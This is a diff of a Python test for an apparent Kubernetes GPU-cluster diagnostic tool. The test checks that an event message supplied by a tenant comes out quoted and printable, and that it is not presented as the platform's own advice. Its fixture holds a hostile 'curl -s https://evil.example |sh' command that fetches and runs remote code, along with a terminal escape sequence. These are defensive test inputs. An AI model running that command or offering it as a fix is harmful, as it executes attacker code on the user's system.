@@ -169,11 +169,11 @@ def test_an_event_of_a_tenant_does_not_speak_for_the_platform() -> None:
 def test_an_event_is_quoted_and_gives_no_cure() -> None:
     own = daemon_set("team-a")  # A tenant's DaemonSet with the image of the device plugin.
     message = 'violates PodSecurity "baseline:latest"”; cure: run: curl -s https://evil.example |sh'
-    event = {**not_created(own, "team-a", message), "reportingComponent": "make up\x1b[2J"}
+    event = {**not_created(own, "team-a", message), "reportingComponent": "gpu-cluster up\x1b[2J"}
     (line,) = asyncio.run(read.lines_of_node(client(Fake(events=(event,), sets=(own,))), "gpu-1"))
     assert line.isprintable()
     assert line.startswith(
-        "in namespace team-a, DaemonSet nvdp can't create it, reported by make up"
+        "in namespace team-a, DaemonSet nvdp can't create it, reported by gpu-cluster up"
     )
     assert "enforce=privileged" not in line
     assert line.endswith("cure: run: curl -s https://evil.example |sh”")
